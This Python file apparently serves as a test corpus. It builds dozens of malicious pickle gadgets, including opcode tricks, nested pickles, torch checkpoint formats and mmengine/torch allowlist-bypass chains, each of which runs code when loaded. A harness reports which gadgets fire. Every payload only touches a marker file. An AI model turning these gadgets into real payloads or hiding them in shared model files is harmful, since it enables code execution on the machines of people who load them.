"""Pickles that run code when they are read without care: each makes a file, the marker.

Run as a script, ``python gadgets.py FOLDER``, this file reads each of them so, and prints the names of those that ran.
"""

import io
import pickle
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import numpy as np

# How torch.save began files before it wrote archives: its magic number and protocol, pickled.
LEGACY_HEAD = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)


class Global:
    """Pickled as a name to be looked up, whether or not there is such a thing."""

    def __init__(self, module, name):
        self.path = module, name

    def __call__(self):
        """Be taken for something that can be called."""


class Call(Global):
    """Pickled as a call."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


class Raw(Global):
    """Opcodes by hand, which leave one object on the stack."""

    def __init__(self, code):
        self.code = code


class Pickler(pickle._Pickler):
    def save(self, obj, save_persistent_id=True):
        if type(obj) is Global:
            self.write("c{}\n{}\n".format(*obj.path).encode())
        elif isinstance(obj, Raw):
            self.write(obj.code)
        else:
            super().save(obj, save_persistent_id)


def dumps(obj, protocol=2):
    file = io.BytesIO()
    Pickler(file, protocol).dump(obj)
    return file.getvalue()


def text(value):
    raw = str(value).encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def as_zip(raw):
    """A pickle as torch.save writes it today."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in (("data.pkl", raw), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"x/{name}", content)
    return file.getvalue()


def as_legacy(raw):
    """A pickle as torch.save wrote it before 1.6."""
    return LEGACY_HEAD + pickle.dumps({"little_endian": True}, 2) + raw + pickle.dumps([], 2)


def as_tar(raw):
    """A pickle in torch's first format."""
    parts = {"storages": pickle.dumps(0, 2) + pickle.dumps([], 2), "tensors": pickle.dumps(0, 2), "pickle": raw}
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tar:
        for name, content in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return file.getvalue()


FORMATS = {"zip": as_zip, "legacy": as_legacy, "tar": as_tar, "pickle": bytes}


def gadget(name, marker):
    """Return what runs code, which makes the file ``marker``; beside it lie the files that some need."""
    command, code = f"touch {marker}", f"open({str(marker)!r}, 'w').close()"
    return _plain(command, code)[name](marker) if name in _plain("", "") else _nested(command, code)[name](marker)


def attr(owner, *names):
    for name in names:
        owner = Call(Global("builtins", "getattr"), owner, name)
    return owner


def module(name):
    return Call(Global("importlib", "import_module"), name)


def partial(function, *args, **kwargs):
    return Raw(
        b"cfunctools\npartial\n" + dumps(function)[2:-1] + b"\x85R" + dumps((function, args, kwargs, None))[2:-1] + b"b"
    )


def beside(marker, name, content):
    path = Path(f"{marker}.{name}")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return str(path)


def _plain(command, code):
    """Gadgets that need one call or two."""
    system, history = Global("os", "system"), Global("mmengine.logging.history_buffer", "HistoryBuffer")
    getitem = Global("operator", "getitem")
    frame_globals = attr(history, "min", "__globals__")
    registries, build = Global("mmengine.registry", "MODELS"), Global("mmengine.registry", "build_from_cfg")
    nothing = {"version": 1, "disable_existing_loggers": False}
    return {
        "os.system": lambda _: Call(system, command),
        "posix.system": lambda _: Call(Global("posix", "system"), command),
        "eval by its name of Python 2": lambda _: Call(Global("__builtin__", "eval"), code),
        "os.popen": lambda _: attr(Call(Global("os", "popen"), command), "close"),
        "subprocess.Popen": lambda _: Call(Global("subprocess", "Popen"), command.split()),
        "subprocess.getoutput": lambda _: Call(Global("subprocess", "getoutput"), command),
        "pty.spawn": lambda _: Call(Global("pty", "spawn"), command.split()),
        "eval": lambda _: Call(Global("builtins", "eval"), code),
        "exec": lambda _: Call(Global("builtins", "exec"), code),
        "open": lambda marker: Call(Global("builtins", "open"), str(marker), "w"),
        "getattr": lambda _: Call(attr(Call(Global("builtins", "__import__"), "os"), "system"), command),
        "getattr from an allowed class": lambda _: Call(
            Call(getitem, Call(getitem, frame_globals, "__builtins__"), "exec"), code
        ),
        "importlib": lambda _: Call(attr(module("os"), "system"), command),
        "a dotted name": lambda _: Raw(b"\x8c\x07logging\x8c\x09os.system\x93" + text(command) + b"\x85R"),
        "functools.partial": lambda _: Call(partial(system, command)),
        "operator.attrgetter": lambda _: Call(
            Call(Call(Global("operator", "attrgetter"), "system"), module("os")), command
        ),
        "operator.methodcaller": lambda _: Call(
            Call(Global("operator", "methodcaller"), "system", command), module("os")
        ),
        "types.FunctionType": lambda _: Call(
            Call(Global("types", "FunctionType"), Call(Global("builtins", "compile"), code, "x", "exec"), {})
        ),
        "map": lambda _: Call(Global("builtins", "list"), Call(Global("builtins", "map"), system, [command])),
        "code.InteractiveInterpreter": lambda _: Call(
            attr(Call(Global("code", "InteractiveInterpreter")), "runsource"), code
        ),
        "timeit": lambda _: Call(Global("timeit", "timeit"), code, "pass", Global("time", "time"), 1),
        "ctypes": lambda _: Call(attr(Call(Global("ctypes", "CDLL"), None), "system"), command.encode()),
        "webbrowser": lambda marker: Call(
            attr(Call(Global("webbrowser", "GenericBrowser"), ["touch", "%s"]), "open"), str(marker)
        ),
        "pathlib's touch": lambda marker: Call(attr(Call(Global("pathlib", "Path"), str(marker)), "touch")),
        "logging.config": lambda _: Call(
            Global("logging.config", "dictConfig"),
            nothing | {"filters": {"x": {"()": "os.system", "command": command}}},
        ),
        "torch's collect_env": lambda _: Call(Global("torch.utils.collect_env", "run"), command.split()),
        "torch.fx": lambda _: Call(
            Global("torch.fx.graph_module", "reduce_graph_module"), {"_code": "def forward(self): pass"}, f"{code}\n"
        ),
        "mmengine's get_object_from_string": lambda _: Call(
            Call(Global("mmengine.utils", "get_object_from_string"), "os.system"), command
        ),
        "mmengine's build_from_cfg": lambda _: Call(build, {"type": system, "command": command}, registries),
        "mmengine's registry": lambda _: Call(attr(registries, "build"), {"type": "os.system", "command": command}),
        "opcode INST": lambda _: Raw(b"(" + text(command) + b"iposix\nsystem\n"),
        "opcode OBJ": lambda _: Raw(b"(cposix\nsystem\n" + text(command) + b"o"),
        "opcode EXT1": lambda _: Raw(
            b"ccopyreg\nadd_extension\n(X\x05\x00\x00\x00posixX\x06\x00\x00\x00systemK\xf0tR0\x82\xf0"
            + text(command)
            + b"\x85R"
        ),
        "opcode BUILD": lambda _: Raw(
            b"cargparse\nNamespace\n)R}X\x0c\x00\x00\x00__setstate__cposix\nsystem\nsb" + text(command) + b"b"
        ),
        "a dict's item": lambda _: {"x": [{(1, Call(system, command)): 1}]},
        "a persistent id": lambda _: Raw(b"(X\x07\x00\x00\x00storage" + dumps(Call(system, command))[2:-1] + b"tQ"),
    }


def _nested(command, code):
    """Gadgets whose code lies in another pickle, file or array."""
    inner = dumps(Call(Global("os", "system"), command))
    array = np.empty(1, object)
    array[0] = Call(Global("os", "system"), command)

    def npy(_):
        return (
            b"\x93NUMPY\x01\x00v\x00" + (b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}").ljust(118) + inner
        )

    def hub(marker):
        folder = Path(f"{marker}.hub")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "hubconf.py").write_text(f"def model():\n    {code}\n")
        return Call(partial(Global("torch.hub", "load"), str(folder), "model", source="local"))

    return {
        "pickle.loads": lambda _: Call(Global("pickle", "loads"), inner),
        "_pickle.loads": lambda _: Call(Global("_pickle", "loads"), inner),
        "marshal.loads": lambda _: Call(
            Global("builtins", "exec"),
            Call(Global("marshal", "loads"), __import__("marshal").dumps(compile(code, "x", "exec"))),
        ),
        "an object array": lambda _: array,
        "numpy.load": lambda marker: Call(Global("numpy", "load"), beside(marker, "npy", npy(marker)), None, True),
        "numpy.memmap": lambda marker: Call(Global("numpy", "memmap"), str(marker), "f4", "w+", 0, (4,)),
        "a torch storage": lambda _: Call(Global("torch.storage", "_load_from_bytes"), as_legacy(inner)),
        "torch.load": lambda marker: Call(
            partial(Global("torch", "load"), beside(marker, "pth", as_legacy(inner)), weights_only=False)
        ),
        "torch.from_file": lambda marker: Call(Global("torch", "from_file"), str(marker), True, 8),
        "torch.hub": hub,
        "runpy": lambda marker: Call(Global("runpy", "run_path"), beside(marker, "py", code)),
        "mmengine's Config": lambda marker: Call(
            attr(Global("mmengine.config", "Config"), "fromfile"), beside(marker, "config.py", code)
        ),
        "mmengine's load": lambda marker: Call(Global("mmengine.fileio", "load"), beside(marker, "inner.pkl", inner)),
    }


NAMES = (*_plain("", ""), *_nested("", ""))
#: What pickle alone does not know how to read; torch.load does.
TORCH_ONLY = ("a persistent id",)


def raw(name, marker, protocol=2):
    """Return the pickle of something like a checkpoint that holds a gadget."""
    return dumps({"state_dict": {"w": 1.0}, "extra": gadget(name, marker)}, protocol)


def torchscript(path, marker):
    """Write a TorchScript archive whose reading makes the marker."""
    import torch

    class Gadget(torch.nn.Module):
        def __init__(self, marker):
            super().__init__()
            self.marker = marker

        @torch.jit.export
        def __getstate__(self):
            return self.marker, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]):
            self.marker, self.training = state
            # What nobody needs would be left out.
            self.training = torch.from_file(self.marker, True, 8).size(0) == 8

        def forward(self, x):
            return x

    torch.jit.save(torch.jit.script(Gadget(str(marker))), path)


def main(folder):
    import torch

    for number, name in enumerate(NAMES):
        marker = folder / f"{number}"
        try:
            if name in TORCH_ONLY:
                torch.load(io.BytesIO(as_zip(raw(name, marker))), weights_only=False)
            else:
                # A dotted name is one to protocol 4 alone, and Python 2's modules are renamed up to 2.
                pickle.loads(raw(name, marker, 4 if name == "a dotted name" else 2))
        except Exception as error:
            print(f"{name}: {type(error).__name__}: {error}", file=sys.stderr)
        # What runs beside this process takes its time.
        for _ in range(100):
            if marker.exists():
                print(name)
                break
            time.sleep(0.02)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
